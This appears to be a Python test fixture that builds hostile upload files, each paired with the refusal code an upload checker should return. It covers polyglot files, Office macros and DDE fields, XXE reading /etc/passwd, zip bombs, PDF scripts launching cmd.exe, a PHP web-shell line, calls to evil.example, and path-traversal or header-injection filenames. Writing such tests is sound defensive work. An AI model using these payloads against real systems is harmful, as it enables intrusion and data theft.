"""Files made to harm: each a few lines, none kept in the repository.

An attack says under which code `check_upload` refuses it, or `HARMLESS`: then it is kept, and
served as an attachment that no browser opens.
"""

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.documents.factories import OOXML, docx_bytes, odt_bytes, pdf_bytes, zip_bytes

HARMLESS = ""
EICAR = (  # in two parts, so that no scanner takes this file for the test virus itself
    rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
)
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HTML = b"<html><script>alert(document.cookie)</script></html>"


@dataclass(frozen=True)
class Attack:
    """What it is, the name and content that are sent, and the code of the refusal."""

    what: str
    name: str
    content: bytes
    refused: str


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(out, kind)
    return out.getvalue()


def xlsx_bytes(**extra: bytes) -> bytes:
    types = f'<Override ContentType="{OOXML}spreadsheetml.sheet.main+xml"/>'.encode()
    return zip_bytes({"[Content_Types].xml": types, "xl/workbook.xml": b"<workbook/>", **extra})


def active_pdf(key: str, value: pikepdf.Object) -> bytes:
    """A PDF with one more entry in its catalogue."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root[key] = value
    return _saved(pdf)


def pdf_with_file(name: str, content: bytes) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)
    return _saved(pdf)


def _pdf_with_button() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    action = Dictionary(S=Name("/Launch"), F=String("cmd.exe"))
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])
    return _saved(pdf)


def _pdf_with_hidden_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript` for who reads a PDF, not for who searches its bytes."""
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made = active_pdf("/OpenAction", action)
    return made.replace(b"/S /JavaScript", b"/S /J#61vaScript")


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="{_RELS}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    ).encode()


def _nested_zip(depth: int) -> bytes:
    content = b"0" * 100_000
    for _level in range(depth):
        content = zip_bytes({"x.zip": content})
    return content


def _many_members() -> bytes:
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(5001):
            archive.writestr(f"word/media/{number}", b"")
    return out.getvalue()


def _lying_zip() -> bytes:
    size = (2_000_000).to_bytes(4, "little")
    honest = docx_bytes(**{"word/media/x": b"0" * 2_000_000})
    return honest.replace(size, (1).to_bytes(4, "little"))


def _png_with_chunk_after_the_end() -> bytes:
    return picture("PNG") + b"\0\0\0\4tEXtabcd" + zlib.crc32(b"tEXtabcd").to_bytes(4, "big")


def _twice_the_same_member() -> bytes:
    out = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", b"<w:document>another</w:document>")
    return out.getvalue()


def _comment(content: bytes, comment: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = comment
    return out.getvalue()


def _stored_first(inside: bytes) -> bytes:
    """A ZIP whose first member is not compressed: its bytes stand in the first kilobyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.pdf", inside)
        for name in ("[Content_Types].xml", "word/document.xml"):
            archive.writestr(name, f"{OOXML}wordprocessingml.document.main+xml")
    return out.getvalue()


def _body(inside: str) -> dict[str, bytes]:
    return {"word/document.xml": f"<w:document>{inside}</w:document>".encode()}


def _mac_enabled() -> bytes:
    types = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    return zip_bytes({"[Content_Types].xml": types, "word/document.xml": b"<w:document/>"})


def _xlsx_macro_types() -> bytes:
    """The macros under another name: the table of types still tells."""
    types = (
        f'<Override ContentType="{OOXML}spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ).encode()
    parts = {"[Content_Types].xml": types, "xl/workbook.xml": b"<workbook/>", "xl/x.bin": b"x"}
    return zip_bytes(parts)


def attacks(limit: int) -> Iterator[Attack]:
    """All of them; `limit` is the size that is still accepted, in bytes."""
    yield from _polyglots()
    yield from _office()
    yield from _bombs()
    yield from _pdfs()
    yield from _wrong_types()
    yield from _names()
    yield Attack("nothing", "leeg.pdf", b"", "empty")
    padded = pdf_bytes()
    yield Attack("1 byte too many", "groot.pdf", padded + b"\n" * (limit + 1 - len(padded)), "size")
    yield Attack("EICAR as a PDF", "eicar.pdf", EICAR, "content")


def _polyglots() -> Iterator[Attack]:
    pdf, png, jpg = pdf_bytes(), picture("PNG"), picture("JPEG")
    archive = zip_bytes({"evil.exe": b"MZ"})
    yield Attack("page before a PDF", "a.pdf", _HTML + pdf, "content")
    yield Attack("page in the head of a PDF", "a.pdf", b"%PDF-1.7\n" + _HTML + pdf, "content")
    yield Attack("script behind the end of a PDF", "a.pdf", pdf + b"%" * 2000 + _HTML, HARMLESS)
    yield Attack("ZIP behind a PDF", "a.pdf", pdf + archive, "content")
    yield Attack("PDF in the head of a ZIP", "a.docx", _stored_first(pdf), "content")
    yield Attack("PDF before a DOCX", "a.docx", pdf + docx_bytes(), "content")
    yield Attack("GIF that is a script", "a.gif", b"GIF89a=1;alert(1)//", "type")
    yield Attack("GIF that is a script, as PNG", "a.png", b"GIF89a=1;alert(1)//", "content")
    yield Attack("ZIP behind a PNG", "a.png", png + archive, "content")
    yield Attack("ZIP behind a JPG", "a.jpg", jpg + archive, "content")
    yield Attack("page behind a PNG", "a.png", png + _HTML, "content")
    yield Attack("page behind a JPG", "a.jpg", jpg + _HTML, "content")
    yield Attack("PHP in a JPG", "a.jpg", jpg + b"<?php system($_GET[0]); ?>\xff\xd9", "content")
    yield Attack(
        "chunk behind the end of a PNG", "a.png", _png_with_chunk_after_the_end(), "content"
    )
    yield Attack(
        "page in the comment of a DOCX", "a.docx", _comment(docx_bytes(), _HTML), "content"
    )
    yield Attack("page behind a DOCX", "a.docx", docx_bytes() + _HTML * 3, "content")
    yield Attack("program before a DOCX", "a.docx", b"MZ" + docx_bytes(), "content")


def _office() -> Iterator[Attack]:
    one = "word/_rels/document.xml.rels"
    settings = "word/_rels/settings.xml.rels"
    template = "http://evil.example/t.dotm"
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    wide = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")
    yield Attack("DOCM", "a.docm", docx_bytes(**{"word/vbaProject.bin": b"x"}), "type")
    yield Attack("DOCM called DOCX", "a.docx", _mac_enabled(), "macro")
    yield Attack("VBA", "a.docx", docx_bytes(**{"word/vbaProject.bin": b"x"}), "macro")
    yield Attack("VBA in XLSX", "a.xlsx", xlsx_bytes(**{"xl/vbaProject.bin": b"x"}), "macro")
    yield Attack("VBA under another name", "a.xlsx", _xlsx_macro_types(), "macro")
    yield Attack(
        "sheet of Excel 4 macros",
        "a.xlsx",
        xlsx_bytes(**{"xl/macrosheets/s.xml": b"<x/>"}),
        "macro",
    )
    yield Attack("Basic", "a.odt", odt_bytes(**{"Basic/Standard/Module1.xml": b"<x/>"}), "macro")
    yield Attack("Python in ODT", "a.odt", odt_bytes(**{"Scripts/python/m.py": b"x"}), "macro")
    listener = b'<office:scripts><script:event-listener xlink:href="x"/></office:scripts>'
    yield Attack("listener in ODT", "a.odt", odt_bytes(**{"styles.xml": listener}), "macro")
    yield Attack(
        "template elsewhere",
        "a.docx",
        docx_bytes(**{settings: relation("attachedTemplate", template)}),
        "external",
    )
    yield Attack(
        "template on a server",
        "a.docx",
        docx_bytes(**{settings: relation("attachedTemplate", "file:///\\\\evil\\t.dotx")}),
        "external",
    )
    yield Attack(
        "linked object",
        "a.docx",
        docx_bytes(**{one: relation("oleObject", "mhtml:http://evil.example/x!x")}),
        "external",
    )
    yield Attack(
        "frame",
        "a.docx",
        docx_bytes(**{one: relation("frame", "https://evil.example/")}),
        "external",
    )
    yield Attack(
        "section elsewhere",
        "a.odt",
        odt_bytes(
            **{"styles.xml": b'<text:section-source xlink:href="http://evil.example/a.odt"/>'}
        ),
        "external",
    )
    yield Attack("OLE", "a.docx", docx_bytes(**{"word/embeddings/oleObject1.bin": b"x"}), "object")
    yield Attack(
        "OLE under another name",
        "a.docx",
        docx_bytes(**{"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        "object",
    )
    yield Attack(
        "OLE in ODT",
        "a.odt",
        odt_bytes(**{"Object 1": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        "object",
    )
    yield Attack(
        "ActiveX", "a.docx", docx_bytes(**{"word/activeX/activeX1.xml": b"<x/>"}), "object"
    )
    yield Attack("program inside", "a.docx", docx_bytes(**{"word/media/a.exe": b"MZ"}), "object")
    inner = xlsx_bytes(**{"xl/vbaProject.bin": b"x"})
    yield Attack(
        "macros in a workbook inside",
        "a.docx",
        docx_bytes(**{"word/embeddings/Book1.xlsx": inner}),
        "macro",
    )
    yield Attack(
        "DDE",
        "a.docx",
        docx_bytes(**{"word/header1.xml": b'<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'}),
        "dde",
    )
    cut = b"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText>"
    yield Attack("DDE in pieces", "a.docx", docx_bytes(**{"word/header1.xml": cut}), "dde")
    yield Attack(
        "DDE in XLSX",
        "a.xlsx",
        xlsx_bytes(**{"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}),
        "dde",
    )
    yield Attack(
        "DDE in ODT",
        "a.odt",
        odt_bytes(**{"styles.xml": b'<office:dde-source office:dde-application="cmd"/>'}),
        "dde",
    )
    yield Attack("entity", "a.docx", docx_bytes(**{"word/header1.xml": entity}), "entities")
    yield Attack("a billion laughs", "a.odt", odt_bytes(**{"styles.xml": laughs}), "entities")
    yield Attack("entity in UTF-16", "a.docx", docx_bytes(**{"word/header1.xml": wide}), "entities")
    yield Attack(
        "member that leaves its folder",
        "a.docx",
        docx_bytes(**{"../../etc/cron.d/x": b"x"}),
        "content",
    )
    yield Attack("member at the root", "a.docx", docx_bytes(**{"/etc/passwd": b"x"}), "content")
    yield Attack("a member twice", "a.docx", _twice_the_same_member(), "content")


def _bombs() -> Iterator[Attack]:
    bomb = {"word/media/x": b"0" * 2_000_000}
    yield Attack("high ratio", "a.docx", docx_bytes(**bomb), "bomb")
    yield Attack("high ratio in XLSX", "a.xlsx", xlsx_bytes(**bomb), "bomb")
    yield Attack("many members", "a.docx", _many_members(), "bomb")
    yield Attack("size that lies", "a.docx", _lying_zip(), "content")
    yield Attack("nested", "a.docx", docx_bytes(**{"word/media/x.zip": _nested_zip(5)}), "object")
    yield Attack("nested, called ZIP", "a.zip", _nested_zip(5), "type")


def _pdfs() -> Iterator[Attack]:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    yield Attack("script on opening", "a.pdf", active_pdf("/OpenAction", script), "active")
    yield Attack("program on opening", "a.pdf", active_pdf("/OpenAction", launch), "active")
    yield Attack("script on closing", "a.pdf", active_pdf("/AA", Dictionary(WC=script)), "active")
    yield Attack("script by name", "a.pdf", active_pdf("/Names", names), "active")
    yield Attack("script under a hidden name", "a.pdf", _pdf_with_hidden_name(), "active")
    yield Attack("button that starts a program", "a.pdf", _pdf_with_button(), "active")
    form = Dictionary(XFA=String("<script/>"), Fields=Array())
    yield Attack("XFA", "a.pdf", active_pdf("/AcroForm", form), "active")
    sends = Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))
    yield Attack("sends itself", "a.pdf", active_pdf("/OpenAction", sends), "active")
    yield Attack("program inside", "a.pdf", pdf_with_file("a.exe", b"MZ"), "embedded")
    yield Attack("PDF inside", "a.pdf", pdf_with_file("b.pdf", pdf_bytes()), "embedded")
    yield Attack(
        "locked",
        "a.pdf",
        pdf_bytes(encryption=pikepdf.Encryption(owner="a", user="b")),
        "encrypted",
    )
    yield Attack("cut off", "a.pdf", pdf_bytes()[:60], "content")


def _wrong_types() -> Iterator[Attack]:
    yield Attack("SVG with a script", "a.svg", b'<svg onload="alert(1)"/>', "type")
    yield Attack("SVG called PNG", "a.png", b'<svg onload="alert(1)"/>', "content")
    yield Attack("page", "a.html", _HTML, "type")
    yield Attack("page called PDF", "a.pdf", _HTML, "content")
    yield Attack("program", "a.exe", b"MZ", "type")
    yield Attack("program called JPG", "a.jpg", b"MZ" + b"\0" * 100, "content")
    yield Attack("PDF called DOCX", "a.docx", pdf_bytes(), "content")
    yield Attack("XLSX called DOCX", "a.docx", xlsx_bytes(), "content")
    yield Attack("old Word", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "type")
    yield Attack("RTF called DOCX", "a.docx", b"{\\rtf1\\object}", "content")
    yield Attack("CSV with a formula", "a.csv", b"=cmd|'/c calc'!A0;1\n", "type")
    yield Attack("EICAR", "eicar.com", EICAR, "type")
    yield Attack("shortcut", "a.lnk", b"L\0\0\0", "type")


def _names() -> Iterator[Attack]:
    """The content is a good PDF: the name is the attack."""
    pdf = pdf_bytes()
    yield Attack("up the folders", "../../../etc/passwd.pdf", pdf, HARMLESS)
    yield Attack("up the folders of Windows", "..\\..\\windows\\a.pdf", pdf, HARMLESS)
    yield Attack("absolute", "/etc/cron.d/a.pdf", pdf, HARMLESS)
    yield Attack("NUL", "a.exe\0.pdf", pdf, HARMLESS)
    yield Attack("new line in a header", "a\r\nSet-Cookie: x=1.pdf", pdf, HARMLESS)
    yield Attack("quote in a header", 'a"; filename="b.exe.pdf', pdf, HARMLESS)
    yield Attack("very long", "a" * 5000 + ".pdf", pdf, HARMLESS)
    yield Attack("read from right to left", "factuur\u202efdp.exe.pdf", pdf, HARMLESS)
    yield Attack("device", "CON.pdf", pdf, HARMLESS)
    yield Attack("device with a second extension", "nul.txt.pdf", pdf, HARMLESS)
    yield Attack("page by its name", "<img src=x onerror=alert(1)>.pdf", pdf, HARMLESS)
    yield Attack("program by its first extension", "plan.exe.pdf", pdf, HARMLESS)
    yield Attack("dot behind", "plan.pdf.", pdf, "type")
    yield Attack("second extension", "plan.pdf.exe", pdf, "type")
    yield Attack("stream of Windows", "plan.exe:x.pdf", pdf, HARMLESS)
    yield Attack("no extension", "plan", pdf, "type")
